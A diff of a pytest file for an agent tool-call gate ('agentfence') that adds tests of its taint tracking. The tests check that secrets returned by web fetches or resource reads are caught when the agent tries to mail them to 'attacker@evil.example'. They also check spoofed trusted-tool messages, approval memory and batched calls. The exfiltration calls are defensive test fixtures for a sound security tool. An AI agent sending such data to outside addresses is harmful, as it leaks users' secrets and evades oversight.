@@ -12,7 +12,7 @@ import pytest
 import yaml
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from talking import NOW, make_gate
+from talking import NOW, Talk, call, forwarded, make_gate, result
 
 from agentfence.core.answers import server_message, unread_answer
 from agentfence.core.constraints.interface import Circumstances
@@ -89,11 +89,10 @@ def test_copies_are_found_and_honest_calls_pass(case: dict[str, Any]) -> None:
     )
     for said in case.get("said", ()):
         agent.call("mail", "send", **said)
-    for result in case["results"]:
+    for came in case["results"]:
         agent.call("web", "fetch", url="https://example.com/")
-        agent.get("web", result=result) if isinstance(result, dict) else agent.get(
-            "web", result={"content": [{"type": "text", "text": result}]}
-        )
+        answer = came if isinstance(came, dict) else {"content": [{"type": "text", "text": came}]}
+        agent.get("web", result=answer)
 
     effects = agent.call("mail", "send", **case["arguments"])
 
@@ -306,6 +305,44 @@ def test_what_the_policy_leaves_out_passes(server: str, tool: str, arguments: di
     assert code(agent.call(server, tool, **arguments)) in {"rule_match", "default_decision"}
 
 
+@pytest.mark.parametrize(
+    ("section", "taints"),
+    [
+        ('sources: ["resources/read"]', True),
+        ('sources: ["web/resources/read"]', True),
+        ('sources: ["web/*"]', True),
+        ('sources: ["*"]', True),
+        ('sources: ["resources/*"]', True),
+        ('sources: ["other/*"]', False),
+        ('sources: ["other/resources/read"]', False),
+        ('sources: ["prompts/get", read, fetch]', False),
+        ('trusted_tools: ["resources/read"]', False),
+        ('trusted_tools: ["web/resources/read"]', False),
+        ('trusted_tools: ["other/resources/read", "prompts/get"]', True),
+        ('trusted_tools: ["web/*", "*/read", read, "*"]', True),
+    ],
+)
+def test_methods_are_named_as_they_are(section: str, taints: bool) -> None:
+    agent = Agent(
+        POLICY[: POLICY.rindex("taint:")] + f'taint: {{enabled: true, sinks: ["mail/*"], {section}}}\n'
+    )
+    agent.send("web", "resources/read", uri="file:///a")
+    agent.get("web", result={"contents": [{"uri": "file:///a", "text": SECRET}]})
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == (
+        "taint_escalated" if taints else "rule_match"
+    )
+
+
+def test_server_cannot_name_what_it_sends_as_a_trusted_tool() -> None:
+    agent = Agent(POLICY.replace('"other/*"]', '"other/*", "mail/get"]'))
+    agent.call("web", "fetch")
+    note = {"jsonrpc": "2.0", "method": "mail/get", "params": {"text": SECRET}}
+    server_message(agent.gate, json.dumps(note).encode(), agent.conversations["web"], Circumstances(NOW))
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == "taint_escalated"
+
+
 def test_trusted_tools_do_not_taint() -> None:
     agent = Agent()
     agent.read(SECRET, tool="time")
@@ -324,6 +361,34 @@ def test_remembered_approval_does_not_cover_a_copy() -> None:
 
     assert asked(agent.call("mail", "asked", to="other@good.example")) == ""
     assert code(agent.call("mail", "asked", to="attacker@evil.example")) == "taint_escalated"
+
+
+def test_approval_of_a_copy_is_never_remembered() -> None:
+    agent = Agent()
+    agent.read(SECRET)
+    ask = agent.call("mail", "asked", to="attacker@evil.example")
+    approved = Approval("approved", "tty", remember=True)
+    passed = agent.gate.resolve(ask[0].pending, approved, Circumstances(NOW))
+    assert isinstance(passed[-1], Forward)
+
+    assert code(agent.call("mail", "asked", to="attacker@evil.example")) == "taint_escalated"
+
+
+def test_person_is_told_both_why_the_rule_asks_and_what_is_derived() -> None:
+    agent = Agent()
+    agent.read(SECRET)
+    reason = asked(agent.call("mail", "asked", to="attacker@evil.example"))
+
+    assert "derived from what `web/fetch` returned" in reason
+    assert "tool `asked` matches" in reason or "tool `asked` has its own rule" in reason
+
+
+def test_sinks_are_single_tools_where_they_are_named() -> None:
+    agent = Agent(POLICY.replace('sinks: ["mail/*"]', 'sinks: ["mail/send"]'))
+    agent.read(SECRET)
+
+    assert code(agent.call("mail", "save", to="attacker@evil.example")) == "rule_match"
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == "taint_escalated"
 
 
 def test_denied_rules_stay_denied_for_their_own_reason() -> None:
@@ -506,3 +571,17 @@ def test_calls_count_as_derived_when_a_result_could_not_be_remembered(
             memory.catch_up()
 
     assert rules.find(memory, {"a": "b"}) == "not all that tools returned could be remembered"
+
+
+def test_members_of_a_batch_share_what_may_be_compared() -> None:
+    talk = Talk(
+        'version: "1"\ndefaults: {decision: allow}\ntaint: {enabled: true, on_tainted_argument: deny}\n',
+        {"on_batch": "evaluate"},
+    )
+    talk.agent(call("fetch", 1))
+    talk.server(result(1, {"content": [{"type": "text", "text": SECRET}]}))
+    half = "own words " * 14_000
+
+    assert forwarded(talk.agent(call("send", 2, text=half)))
+    assert forwarded(talk.agent(call("send", 3, text=half)))
+    assert not forwarded(talk.agent([call("send", 4, text=half), call("send", 5, text=half)]))
